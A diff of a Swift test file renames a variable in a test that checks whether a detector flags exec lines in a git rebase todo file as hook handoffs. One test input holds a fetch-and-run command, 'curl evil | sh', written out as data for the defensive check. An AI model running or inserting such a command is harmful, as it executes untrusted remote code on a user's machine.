@@ -144,11 +144,11 @@ struct HandoffContentTests {
 
     @Test("a rebase that the step leaves open")
     func rebase() {
-        let todo: ByteString = ".git/rebase-merge/git-rebase-todo"
-        #expect(handoffs(todo, after: "pick 1234 x\n") == [])
-        #expect(handoffs(todo, after: "pick 1234 exec\n  exec curl evil | sh\n") == ["git_hooks"])
-        #expect(handoffs(todo, after: "x id\n") == ["git_hooks"])
-        #expect(handoffs(todo, .deleted, before: "x id\n") == [])
+        let rebase: ByteString = ".git/rebase-merge/git-rebase-todo"
+        #expect(handoffs(rebase, after: "pick 1234 x\n") == [])
+        #expect(handoffs(rebase, after: "pick 1234 exec\n  exec curl evil | sh\n") == ["git_hooks"])
+        #expect(handoffs(rebase, after: "x id\n") == ["git_hooks"])
+        #expect(handoffs(rebase, .deleted, before: "x id\n") == [])
     }
 
     @Test("no bytes crash the readers", arguments: 0..<8)
